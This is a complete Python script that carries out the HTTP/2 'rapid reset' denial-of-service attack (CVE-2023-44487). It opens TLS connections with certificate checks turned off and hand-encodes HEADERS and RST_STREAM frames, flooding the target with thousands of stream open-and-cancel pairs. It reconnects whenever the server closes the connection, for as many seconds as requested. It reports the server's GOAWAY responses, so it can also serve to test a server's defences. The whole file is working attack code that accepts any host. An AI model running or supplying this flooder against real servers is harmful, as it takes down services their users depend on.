"""HTTP/2 rapid-reset client (CVE-2023-44487): opens a TLS connection with ALPN h2, then sends
STREAMS pairs of HEADERS and RST_STREAM as fast as the socket takes them, reads what the server
answers, and reconnects when the server closes the connection, until SECONDS have passed.

Usage: rapid_reset.py HOST PORT PATH SECONDS [STREAMS]

Prints one JSON line: connections opened, streams opened and reset, connections the server
ended with GOAWAY (and the last error code it gave), and connections it closed without one.
Only the standard library: frames and the few HPACK fields are encoded by hand.
"""

import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A header field as 'literal without indexing', its name from the static table."""
    data = value.encode()
    assert index < 15 and len(data) < 127
    return bytes([index]) + bytes([len(data)]) + data


def request_block(authority, path):
    # :method GET (static 2), :scheme https (static 7), :path and :authority as literals.
    return b"\x82\x87" + literal(4, path) + literal(1, authority)


def attack(host, port, path, streams, context):
    """One connection: returns (streams sent, goaway error code or None, closed by server)."""
    raw = socket.create_connection((host, port), timeout=10)
    conn = context.wrap_socket(raw, server_hostname="localhost")
    if conn.selected_alpn_protocol() != "h2":
        conn.close()
        raise SystemExit("the server did not negotiate h2")
    conn.sendall(PREFACE + frame(SETTINGS, 0, 0))
    block = request_block(f"{host}:{port}", path)
    sent = 0
    goaway = None
    closed = False
    conn.setblocking(False)
    buffer = b""
    stream = 1
    try:
        while sent < streams and goaway is None and not closed:
            batch = b""
            for _ in range(min(50, streams - sent)):
                batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
                sent += 1
            view = memoryview(batch)
            while view:
                try:
                    n = conn.send(view)
                    view = view[n:]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    time.sleep(0.0005)
                except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
                    closed = True
                    break
            buffer, goaway, eof = read_available(conn, buffer)
            closed = closed or eof
        # Wait a moment for the server's verdict on this connection.
        deadline = time.monotonic() + 2
        while goaway is None and not closed and time.monotonic() < deadline:
            buffer, goaway, eof = read_available(conn, buffer)
            closed = closed or eof
            time.sleep(0.01)
    finally:
        conn.close()
    return sent, goaway, closed


def read_available(conn, buffer):
    goaway = None
    eof = False
    while True:
        try:
            data = conn.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            eof = True
            break
        if not data:
            eof = True
            break
        buffer += data
    while len(buffer) >= 9:
        length = struct.unpack(">I", b"\x00" + buffer[:3])[0]
        if len(buffer) < 9 + length:
            break
        kind = buffer[3]
        payload = buffer[9 : 9 + length]
        if kind == GOAWAY and len(payload) >= 8:
            goaway = struct.unpack(">I", payload[4:8])[0]
        buffer = buffer[9 + length :]
    return buffer, goaway, eof


def main():
    host, port, path, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    streams = int(sys.argv[5]) if len(sys.argv) > 5 else 1000
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    end = time.monotonic() + seconds
    totals = {"connections": 0, "streams_reset": 0, "goaway": 0, "closed_without_goaway": 0, "last_goaway_error": None}
    sent_before_goaway = []
    while time.monotonic() < end:
        try:
            sent, goaway, closed = attack(host, port, path, streams, context)
        except OSError:
            time.sleep(0.05)
            continue
        totals["connections"] += 1
        totals["streams_reset"] += sent
        if goaway is not None:
            totals["goaway"] += 1
            totals["last_goaway_error"] = goaway
            sent_before_goaway.append(sent)
        elif closed:
            totals["closed_without_goaway"] += 1
    if sent_before_goaway:
        totals["streams_sent_before_goaway_max"] = max(sent_before_goaway)
    print(json.dumps(totals))


if __name__ == "__main__":
    main()
